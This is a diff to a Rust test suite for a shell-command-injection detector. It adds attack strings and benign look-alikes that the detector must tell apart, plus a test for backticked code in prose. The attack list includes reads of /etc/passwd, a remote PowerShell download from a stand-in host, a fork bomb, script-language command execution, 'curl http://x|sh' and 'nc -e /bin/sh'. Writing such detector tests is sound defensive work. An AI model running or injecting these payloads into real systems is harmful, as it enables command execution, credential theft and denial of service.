@@ -96,6 +96,17 @@ const ATTACKS: &[&str] = &[
     "'|whoami||'",
     "0;env",
     "1|ps -ef",
+    ";cat+/etc/passwd",
+    "cat /[e]tc/pa?swd",
+    ";iwr http://evil.example/a.ps1",
+    "& FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
+    ":(){ :|:& };:",
+    "__import__('os').popen('id').read()",
+    "os.system('id')",
+    "@{[system 'whoami']}",
+    "IO.popen('id').read",
+    "%x(id)",
+    "powershell C:\\windows\\system32\\notepad.exe",
 ];
 
 const HONEST: &[&str] = &[
@@ -172,6 +183,11 @@ const HONEST: &[&str] = &[
     "it's `date` and `time`",
     "Cookie: a=b; id=5; w=3",
     "BTC|ETH|w",
+    "export const A = /*#__PURE__*/React.createContext(x);\nlet b = c.d();",
+    "x = function () {\n return this.value;\n };",
+    "import os from 'x'",
+    "the os.system of the body",
+    "for 5% in (a) do",
     "left; right; top",
     "java -jar app.jar",
     "<p>more</p>;<b>less</b>",
@@ -196,6 +212,15 @@ fn prose_about_commands_does_not_block() {
     let text = "进入服务器后先执行以下命令查看用户;cat /etc/passwd 然后重新启动服务即可完成全部配置";
     let sure = confidence(Detector::Shell, text.as_bytes(), Context::of(Place::Value));
     assert!((40..80).contains(&sure), "{sure}");
+}
+
+#[test]
+fn code_marked_with_backticks_in_a_sentence_does_not_block() {
+    for value in ["performance when running `find /` on it", "run `python3 gen.py` first", "请执行 `ls -la` 查看"]
+    {
+        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
+        assert!(sure < 80, "{sure} for {value}");
+    }
 }
 
 #[test]
@@ -240,6 +265,10 @@ fn shell_findings_meet_the_requirement_in_linear_work() {
             "\n",
             "sudo ",
             "env ",
+            "cp ",
+            "/opt/x ",
+            "~/a",
+            "\t",
             "cmd /c ",
             "curl http://x|sh",
             "nc -e /bin/sh",
